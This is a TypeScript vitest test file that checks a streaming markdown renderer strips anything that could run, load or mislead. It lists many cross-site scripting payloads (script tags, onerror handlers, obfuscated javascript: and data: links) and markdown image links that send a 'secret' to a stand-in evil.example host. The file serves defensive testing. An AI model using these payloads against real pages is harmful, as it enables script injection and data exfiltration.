import { describe, expect, it } from "vitest";
import { createMarkdownView } from "./index.js";
import { draw, feed, pieces } from "./testing/draw.js";
import { NO_VECTORS, readVectors } from "./testing/vectors.js";

const TAGS = new Set(
  (
    "SECTION SUP A BLOCKQUOTE BR BUTTON CODE COL COLGROUP DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN " +
    "STRONG TABLE TBODY TD TH THEAD TR UL"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  (
    "aria-label aria-pressed checked class data-target dir disabled hidden href rel scope start style tabindex target " +
    "title type"
  ).split(" "),
);

/** Fails if anything is there that could run, load or lead elsewhere than a link may. */
function expectHarmless(root: Element, text: string): void {
  for (const element of root.querySelectorAll("*")) {
    if (!TAGS.has(element.tagName)) expect.fail(`<${element.tagName}> from ${text}`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) expect.fail(`${name}="${value}" from ${text}`);
      if (name === "href" && !/^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/i.test(value)) {
        expect.fail(`href="${value}" from ${text}`);
      }
      if (name === "style" && !/^width: [\d.]+%;?$/.test(value))
        expect.fail(`${value} from ${text}`);
    }
    if (element.tagName === "A" && element.getAttribute("rel") !== "noopener noreferrer") {
      expect.fail(`a link without rel from ${text}`);
    }
  }
}

const OWN = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "a <img src=x onerror=alert(1)> b",
  "[a](javascript:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](java&Tab;script&colon;alert(1))",
  "[a](JaVaScRiPt:alert(1) 'x\" onmouseover=\"alert(1)')",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:msgbox)",
  "[a](file:///etc/passwd)",
  "[a](blob:https://a.b/c)",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![a](https://evil.example/?q=secret)",
  "![a][b]\n\n[b]: https://evil.example/?q=secret",
  "[![a](https://evil.example/a.png)](https://evil.example/b)",
  "```<script>\nalert(1)\n```",
  '```py" onload="alert(1)\nx\n```',
  "| <img src=x> | [a](javascript:1) |\n| - | - |\n| <svg onload=alert(1)> | `<b>` |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "# <iframe src=javascript:alert(1)>",
  '[a](https://x.yz "\\" onclick=\\"alert(1)")',
  "<svg><script>alert(1)</script></svg>",
  "<style>@import url(https://evil.example)</style>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "www.evil.example/<script>alert(1)</script>",
  "javascript:alert(1)@evil.example",
  "[constructor][__proto__]\n\n[__proto__]: /a\n[constructor]: /b",
];

function expectHarmlessAtEveryPrefix(text: string): void {
  const view = createMarkdownView(document);
  for (const char of text) {
    view.append(char);
    view.flush();
    expectHarmless(view.element, text);
  }
  view.end();
  expectHarmless(view.element, text);
}

describe("hostile text", () => {
  it.each(OWN)("%j makes nothing that runs or loads, at any prefix", expectHarmlessAtEveryPrefix);

  for (const file of ["owasp_xss", "blns"]) {
    const all = readVectors<string>(`hostile/${file}.json`);
    it.skipIf(!all)(
      `${file} makes nothing that runs or loads${all ? "" : `: ${NO_VECTORS}`}`,
      () => {
        for (const text of all ?? []) expectHarmlessAtEveryPrefix(text);
      },
      60_000,
    );
  }

  it("the text of raw HTML is what is shown", () => {
    const html = 'a <b onclick="x()">b</b> <!-- c -->';
    expect(draw([html]).textContent).toBe(html);
    expect(draw([`<div>\n${html}`]).textContent).toBe(`<div>\n${html}\n`);
  });

  it("a refused link tells where it would have led", () => {
    const span = draw(["[a](javascript:alert%281%29)"]).querySelector(".nbstream-refused-link");
    expect(span?.textContent).toBe("a");
    expect((span as HTMLElement).title).toContain("javascript:alert%281%29");
  });

  it("a link whose text is another address shows where it leads", () => {
    const link = (text: string) => draw([text]).querySelector("a")?.dataset["target"];
    expect(link("[https://bank.example](https://evil.example/a)")).toBe("evil.example");
    expect(link("[bank.example](https://bank.example@evil.example/)")).toBe("evil.example");
    expect(link("[bank.example/a](https://www.bank.example/b)")).toBeUndefined();
    expect(link("[the bank](https://bank.example)")).toBeUndefined();
    expect(link("https://bank.example/a")).toBeUndefined();
  });

  it("characters that reorder or hide text are named", () => {
    for (const char of ["\u202e", "\u2066", "\u200b", "\u00ad", "\u{e0041}", "\u0007", "\ufeff"]) {
      const code = (char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0");
      for (const text of [`a${char}b`, `\`a${char}b\``, `    a${char}b`, `[a${char}b](/u)`]) {
        expect(draw([text]).textContent, text).toContain(`aU+${code}b`);
      }
    }
  });

  it("joiners and selectors that writing needs are left alone", () => {
    for (const text of ["👩‍👩‍👧", "❤️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "می‌خواهم", "क्‍ष", "1️⃣"]) {
      expect(draw([text]).textContent).toBe(text);
    }
  });

  it("data hidden in selectors and tags is named", () => {
    expect(draw(["a\u{e0100}\u{e0101}b"]).textContent).toContain("U+E0100U+E0101");
    expect(draw(["👍\ufe0f\ufe01\ufe02"]).textContent).toContain("U+FE01U+FE02");
  });

  it("depth without end is drawn to a limit", () => {
    const n = 4_000;
    for (const text of [
      ">".repeat(n),
      "- ".repeat(n),
      "1. ".repeat(n),
      `${"> ".repeat(n)}a\n`.repeat(3),
      "*a ".repeat(n) + "b*".repeat(n),
      "**a ".repeat(n) + "b**".repeat(n),
      "[".repeat(n),
      `${"[".repeat(n)}a${"](/u)".repeat(n)}`,
      `${"![".repeat(n)}a${"](/u)".repeat(n)}`,
    ]) {
      const view = createMarkdownView(document);
      feed(view, pieces(text, 1, 1000));
      view.end();
      let depth = 0;
      for (let at: Element | null = view.element; at; at = at.lastElementChild) depth++;
      expect(depth).toBeLessThan(300);
    }
  }, 60_000);
});
